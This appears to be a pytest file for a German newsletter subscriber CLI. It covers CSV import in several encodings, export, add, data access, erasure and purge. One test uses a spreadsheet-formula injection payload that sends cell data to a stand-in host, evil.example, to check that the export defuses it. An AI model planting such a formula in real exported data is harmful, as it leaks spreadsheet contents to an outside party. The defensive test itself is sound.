"""`eudigest subscribers …`: import real-world CSV files, export, add, data, erase, purge."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from collections.abc import Callable
from pathlib import Path

import pytest
from flask import Flask

from pipeline.bootstrap import Services
from pipeline.cli import main
from pipeline.model import Office, OrgType, SubscriberStatus, SuppressionReason, Taxonomy
from subscribers import portability
from subscribers.addresses import hash_of
from tests.subscribers.conftest import Clock, Outbox, Visitor, environ, new_visitor

BASE_URL = "http://localhost"  # the test client opens the links of the mails
VARIABLES = (
    "EUDIGEST_DATABASE_URL",
    "EUDIGEST_BASE_URL",
    "EUDIGEST_SECRET_KEY",
    "EUDIGEST_SOURCES",
)


Cli = Callable[..., tuple[int, str, str]]


@pytest.fixture
def cli(
    services: Services, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Cli:
    """Run `eudigest …` on the test's data folder; returns (exit code, stdout, stderr)."""
    folder = services.settings.data_dir.parent
    monkeypatch.chdir(folder)
    for name in VARIABLES:
        monkeypatch.delenv(name, raising=False)
    for name, value in environ(folder, EUDIGEST_BASE_URL=BASE_URL).items():
        monkeypatch.setenv(name, value)

    def run(*argv: str) -> tuple[int, str, str]:
        capsys.readouterr()
        code = main(list(argv))
        out, err = capsys.readouterr()
        return code, out, err

    return run


def _write(folder: Path, name: str, text: str, encoding: str) -> Path:
    path = folder / name
    path.write_bytes(text.encode(encoding))
    return path


# Written for these tests, as an office's Excel list looks: German umlauts, a BOM or
# Windows-1252, ';' as German Excel writes it, and mistakes on some lines.
LIST = (
    "email;name;organisation;organisation_type;newsletters;topics;language;consent_at\r\n"
    "anna.schmid@stadt-esslingen.de;Anna Schmid;Stadt Esslingen;Kommune;weekly;funding;de;"
    "2024-03-01\r\n"
    "Jörg.Müller@x.de;Jörg Müller;Landratsamt Böblingen;landkreis;weekly;;de;2024-03-01\r\n"
    "klaus.mueller@landratsamt-bb.de;Klaus Müller;Landratsamt Böblingen;landkreis;weekly;;de;\r\n"
    "petra.weiss@uni-hohenheim.de;Petra Weiß;Universität Hohenheim;Hochschule/Forschung;"
    "weekly;research;de;01.02.2023\r\n"
    "ANNA.SCHMID@stadt-esslingen.de;Anna;Stadt Esslingen;Kommune;weekly;;de;2024-03-01\r\n"
    "info@ihk-region-stuttgart.de;;IHK Region Stuttgart;Kammer;weekly;astrologie;de;2024-03-01\r\n"
    "ceo@firma.de;;Firma GmbH;Konzern;weekly;;de;2024-03-01\r\n"
    ";;leere Adresse;;weekly;;de;\r\n"
    "zukunft@stadt-esslingen.de;;;kommune;weekly;;de;2099-01-01\r\n"
    "\r\n"
)


@pytest.mark.parametrize(
    ("encoding", "label"),
    [("utf-8", "UTF-8"), ("utf-8-sig", "UTF-8 mit BOM"), ("cp1252", "Windows-1252")],
)
def test_import_an_excel_list_in_each_encoding(
    cli: Cli, services: Services, outbox: Outbox, encoding: str, label: str
) -> None:
    path = _write(services.settings.data_dir.parent, "verteiler.csv", LIST, encoding)
    code, out, _ = cli("subscribers", "import", str(path))
    assert code == 0, out
    assert f"Kodierung {label}, Trennzeichen Semikolon" in out
    assert (
        "9 Zeilen gelesen, 3 importiert: 2 bestätigt (mit consent_at), "
        "1 unbestätigt (1 Bestätigungsmail verschickt)" in out
    )
    assert "Zeile 3: ungültige E-Mail-Adresse: Umlaute" in out
    assert "Zeile 6: doppelt in der Datei (zuerst in Zeile 2)" in out
    assert "Zeile 7: Unbekanntes Thema „astrologie“" in out
    assert "Zeile 8: Unbekannte Art der Organisation „konzern“" in out
    assert "Zeile 9: ungültige E-Mail-Adresse: Bitte eine E-Mail-Adresse angeben." in out
    assert "Zeile 10: consent_at 2099-01-01 liegt in der Zukunft" in out

    store = services.store.subscribers
    petra = store.by_hash(hash_of("petra.weiss@uni-hohenheim.de"))
    assert petra is not None
    assert (petra.name, petra.organisation, petra.org_type, petra.topics) == (
        "Petra Weiß",
        "Universität Hohenheim",
        OrgType.HOCHSCHULE,
        ("research",),
    )
    assert petra.status is SubscriberStatus.CONFIRMED
    assert petra.consent_at == dt.datetime(2023, 1, 31, 23, 0, tzinfo=dt.UTC)
    klaus = store.by_hash(hash_of("klaus.mueller@landratsamt-bb.de"))
    assert klaus is not None and klaus.status is SubscriberStatus.PENDING
    assert klaus.organisation == "Landratsamt Böblingen"
    recipients = sorted(s.email for s in store.confirmed_for("weekly"))
    assert recipients == ["anna.schmid@stadt-esslingen.de", "petra.weiss@uni-hohenheim.de"]
    assert [m.to for m in outbox.all()] == ["klaus.mueller@landratsamt-bb.de"]


def test_an_imported_address_confirms_from_its_mail(
    cli: Cli, services: Services, outbox: Outbox, visitor: Visitor, clock: Clock
) -> None:
    path = _write(
        services.settings.data_dir.parent,
        "l.csv",
        "email,name\nklaus.mueller@landratsamt-bb.de,Klaus Müller\n",
        "utf-8",
    )
    code, out, _ = cli("subscribers", "import", str(path))
    assert code == 0
    assert "Keine Spalte newsletters: alle Zeilen erhalten weekly." in out
    assert "Trennzeichen Komma" in out
    mail = outbox.last("klaus.mueller@landratsamt-bb.de")
    assert "Ihre Adresse steht in unserer bisherigen Liste" in mail.text
    clock.now = dt.datetime.now(dt.UTC)  # the CLI signed the link on the real clock
    visitor.confirm(mail.link("/abo/bestaetigen/"))
    assert [s.name for s in services.store.subscribers.confirmed_for("weekly")] == ["Klaus Müller"]


def test_importing_the_same_file_twice_reports_known_addresses(
    cli: Cli, services: Services
) -> None:
    path = _write(services.settings.data_dir.parent, "l.csv", LIST, "utf-8")
    cli("subscribers", "import", str(path))
    code, out, _ = cli("subscribers", "import", str(path))
    assert code == 1
    assert "Zeile 2: bereits eingetragen (nicht geändert)" in out
    assert "Es wurde keine Zeile importiert." in out


def test_an_erased_address_is_not_brought_back_by_an_import(
    cli: Cli, services: Services, outbox: Outbox
) -> None:
    folder = services.settings.data_dir.parent
    one = (
        "email;consent_at\n"
        "anna.schmid@stadt-esslingen.de;2024-03-01\n"
        "karl@stadt-esslingen.de;2024-03-01\n"
    )
    cli(
        "subscribers",
        "import",
        str(
            _write(
                folder,
                "a.csv",
                "email;consent_at\nanna.schmid@stadt-esslingen.de;2024-03-01\n",
                "utf-8",
            )
        ),
    )
    assert cli("subscribers", "erase", "Anna.Schmid@stadt-esslingen.de")[0] == 0
    code, out, _ = cli("subscribers", "import", str(_write(folder, "b.csv", one, "utf-8")))
    assert code == 0
    assert "Zeile 2: Adresse ist gesperrt" in out
    store = services.store.subscribers
    assert store.by_hash(hash_of("anna.schmid@stadt-esslingen.de")) is None
    assert store.suppression(hash_of("anna.schmid@stadt-esslingen.de")) is SuppressionReason.ERASED


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (
            "name;organisation\nAnna;Stadt Esslingen\n",
            "Die Spalte „email“ fehlt in der Kopfzeile (gefunden: name, organisation)",
        ),
        ("", "Die Datei ist leer."),
        ("email\n", None),
        ("email\nkein-at\nauch@kein\n", None),
    ],
)
def test_a_file_with_nothing_to_import_exits_non_zero(
    cli: Cli, services: Services, content: str, message: str | None
) -> None:
    path = _write(services.settings.data_dir.parent, "bad.csv", content, "utf-8")
    code, out, err = cli("subscribers", "import", str(path))
    assert code != 0
    if message:
        assert message in err
    else:
        assert "Es wurde keine Zeile importiert." in out
    assert services.store.subscribers.counts()["pending"] == 0


def test_import_of_a_missing_file(cli: Cli, services: Services) -> None:
    code, _, err = cli("subscribers", "import", "gibt-es-nicht.csv")
    assert code == 2 and "nicht lesbar" in err


def test_rows_needing_a_mail_need_the_secret_and_the_public_address(
    cli: Cli, services: Services, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("EUDIGEST_BASE_URL")
    path = _write(services.settings.data_dir.parent, "l.csv", LIST, "utf-8")
    code, _, err = cli("subscribers", "import", str(path))
    assert code == 2
    assert "EUDIGEST_BASE_URL" in err and "nothing was imported" in err
    assert services.store.subscribers.counts()["confirmed"] == 0
    code, _, err = cli("subscribers", "add", "anna.schmid@stadt-esslingen.de")
    assert code == 2 and "EUDIGEST_BASE_URL" in err


def test_export_csv_and_json_round_trip(cli: Cli, services: Services) -> None:
    folder = services.settings.data_dir.parent
    cli("subscribers", "import", str(_write(folder, "l.csv", LIST, "utf-8")))
    code, out, _ = cli("subscribers", "export")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["email"] for r in rows] == [
        "anna.schmid@stadt-esslingen.de",
        "klaus.mueller@landratsamt-bb.de",
        "petra.weiss@uni-hohenheim.de",
    ]
    assert rows[2]["organisation"] == "Universität Hohenheim"
    assert rows[2]["status"] == "confirmed" and rows[2]["consent_at"] == "2023-01-31T23:00:00+00:00"
    assert rows[1]["status"] == "pending" and rows[1]["consent_at"] == ""

    code, out, _ = cli("subscribers", "export", "--json")
    data = json.loads(out)
    assert [d["email"] for d in data] == [r["email"] for r in rows]
    assert data[0]["topics"] == ["funding"] and data[0]["newsletters"] == ["weekly"]

    target = folder / "export.csv"
    code, _, err = cli("subscribers", "export", "-o", str(target))
    assert code == 0 and "3 Abonnenten" in err
    assert target.read_text(encoding="utf-8") == cli("subscribers", "export")[1]


def test_export_guards_against_spreadsheet_formulas(
    cli: Cli, app: Flask, services: Services, office: Office, taxonomy: Taxonomy
) -> None:
    formula = '=HYPERLINK("https://evil.example/?x="&A1;"Klick")'
    new_visitor(app).sign_up("anna.schmid@stadt-esslingen.de", name=formula)
    _, out, _ = cli("subscribers", "export")
    row = next(csv.DictReader(io.StringIO(out)))
    assert row["name"] == "'" + formula
    # Reading the export back restores the name as it was typed.
    rows, report = portability.read_csv(
        out.encode(), office, taxonomy, tz=services.settings.tz, now=services.clock()
    )
    assert report.problem_count == 0 and [r.profile.name for r in rows] == [formula]


def test_add_sends_the_confirmation_mail(
    cli: Cli, services: Services, outbox: Outbox, visitor: Visitor, clock: Clock
) -> None:
    code, out, _ = cli(
        "subscribers", "add", "Anna.Schmid@Stadt-Esslingen.de", "--topics", "funding", "mobility",
        "--newsletters", "weekly", "daily", "--name", "Anna Schmid", "--org-type", "kommune",
    )  # fmt: skip
    assert code == 0
    assert "angelegt (unbestätigt); die Bestätigungsmail ist verschickt" in out
    mail = outbox.last("anna.schmid@stadt-esslingen.de")
    assert "Themen: Förderprogramme, Mobilität" in mail.text
    clock.now = dt.datetime.now(dt.UTC)  # the CLI signed the link on the real clock
    visitor.confirm(mail.link("/abo/bestaetigen/"))
    anna = services.store.subscribers.confirmed_for("daily")[0]
    assert (anna.name, anna.topics, anna.org_type) == (
        "Anna Schmid",
        ("funding", "mobility"),
        OrgType.KOMMUNE,
    )
    code, out, _ = cli(
        "subscribers", "add", "anna.schmid@stadt-esslingen.de", "--topics", "digital"
    )
    assert code == 0 and "bereits eingetragen" in out
    assert services.store.subscribers.get(anna.id).topics == ("funding", "mobility")


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (("kein-at",), "gültige E-Mail-Adresse"),
        (("a@stadt-esslingen.de", "--topics", "astrologie"), "Unbekanntes Thema"),
        (("a@stadt-esslingen.de", "--newsletters", "monthly"), "Unbekannter Newsletter"),
    ],
)
def test_add_refuses_bad_input(
    cli: Cli, services: Services, outbox: Outbox, args: tuple[str, ...], message: str
) -> None:
    code, _, err = cli("subscribers", "add", *args)
    assert code == 2 and message in err
    assert outbox.count() == 0


def test_data_and_erase(cli: Cli, services: Services, outbox: Outbox) -> None:
    folder = services.settings.data_dir.parent
    cli("subscribers", "import", str(_write(folder, "l.csv", LIST, "cp1252")))
    code, out, _ = cli("subscribers", "data", "Petra.Weiss@uni-hohenheim.de")
    assert code == 0
    data = json.loads(out)
    assert data["subscriber"]["name"] == "Petra Weiß"
    assert data["consent"]["given_at"] == "2023-01-31T23:00:00+00:00"

    code, out, _ = cli("subscribers", "erase", "petra.weiss@uni-hohenheim.de")
    assert code == 0 and "gelöscht" in out
    hashed = hash_of("petra.weiss@uni-hohenheim.de")
    assert services.store.subscribers.by_hash(hashed) is None
    assert services.store.subscribers.suppression(hashed) is SuppressionReason.ERASED
    code, out, _ = cli("subscribers", "erase", "petra.weiss@uni-hohenheim.de")
    assert code == 0 and "bereits gesperrt" in out
    code, _, err = cli("subscribers", "data", "niemand@uni-hohenheim.de")
    assert code == 2 and "not found" in err


def test_purge_deletes_old_unconfirmed_sign_ups(
    cli: Cli, app: Flask, services: Services, clock: Clock
) -> None:
    real_now = dt.datetime.now(dt.UTC)  # the CLI runs on the real clock
    clock.now = real_now - dt.timedelta(days=31)
    new_visitor(app).sign_up("alt@stadt-esslingen.de")
    clock.now = real_now - dt.timedelta(days=29)
    new_visitor(app).sign_up("neu@stadt-esslingen.de")
    code, out, _ = cli("subscribers", "purge")
    assert code == 0
    assert "1 unbestätigte Anmeldung (älter als 30 Tage) gelöscht." in out
    assert [s.email for s in services.store.subscribers.iter_all()] == ["neu@stadt-esslingen.de"]
    code, out, _ = cli("subscribers", "purge", "--days", "28")
    assert "1 unbestätigte Anmeldung (älter als 28 Tage) gelöscht." in out
    assert list(services.store.subscribers.iter_all()) == []
